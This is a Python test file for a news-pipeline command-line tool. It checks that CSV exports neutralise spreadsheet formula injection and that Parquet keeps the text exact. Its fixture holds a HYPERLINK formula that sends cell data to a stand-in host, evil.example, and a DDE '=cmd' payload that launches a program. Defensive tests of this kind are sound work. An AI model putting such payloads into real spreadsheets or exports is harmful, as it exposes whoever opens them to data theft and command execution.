"""CSV safe to open: formula-like text cells get a leading ' in every CSV table, Parquet stays exact."""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
from click.testing import CliRunner

from pipeline.cli import main
from pipeline.csvcells import csv_safe_text

FORMULA = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Mehr lesen")'
HOSTILE = {
    "title": HOSTILE_TITLE,
    "author": "@redaktion",
    "kicker": "+Niedersachsen",
    "published": "2023-04-05",
    "text": "-1+2 ist das Ergebnis der Umfrage. Die Stadt Celle stellt ein neues Serviceportal vor. "
            "Bürgermeisterin Karla Wendt sagte, bis Ende 2023 sollen alle Leistungen online sein.\n\n"
            "=cmd|' /C calc'!A0 stand in einem Kommentar unter der Meldung.",
}


def test_csv_safe_text():
    for c in FORMULA:
        assert csv_safe_text(c + "x") == "'" + c + "x"
    assert csv_safe_text("Celle") == "Celle" and csv_safe_text("") == "" and csv_safe_text("a=b") == "a=b"


def _run(tmp_path: Path, *extra: str) -> Path:
    raw = tmp_path / "raw"
    raw.mkdir(exist_ok=True)
    (raw / "export.jsonl").write_text(json.dumps(HOSTILE, ensure_ascii=False) + "\n", encoding="utf-8")
    out = tmp_path / ("out" + "".join(extra))
    res = CliRunner().invoke(main, ["run", str(raw), "--out", str(out), "--workers", "1", "--quiet", *extra],
                             catch_exceptions=False)
    assert res.exit_code == 0, res.output
    return out


def _cells(f: Path):
    with open(f, encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            yield from row


def test_hostile_text_is_neutralised_in_every_csv_and_exact_in_parquet(tmp_path):
    out = _run(tmp_path)
    arts = pd.read_parquet(out / "articles.parquet")
    assert arts.title[0] == HOSTILE_TITLE and arts.author[0] == "@redaktion"  # Parquet: exact text
    assert arts.text[0].startswith("-1+2")
    tables = sorted(out.glob("*.csv"))
    assert len(tables) >= 15
    guarded = 0
    for f in tables:
        for cell in _cells(f):
            assert not cell.startswith(FORMULA), (f.name, cell[:40])
            guarded += cell.startswith(("'=", "'+", "'-", "'@"))
    assert guarded >= 4   # title, author, kicker, text (and the boilerplate or quotes that repeat them)
    csv_arts = pd.read_csv(out / "articles.csv", dtype=str, keep_default_na=False)
    assert csv_arts.title[0] == "'" + HOSTILE_TITLE
    assert csv_arts.text[0] == "'" + arts.text[0]


def test_csv_raw_writes_the_exact_text(tmp_path):
    out = _run(tmp_path, "--csv-raw")
    csv_arts = pd.read_csv(out / "articles.csv", dtype=str, keep_default_na=False)
    assert csv_arts.title[0] == HOSTILE_TITLE and csv_arts.author[0] == "@redaktion"
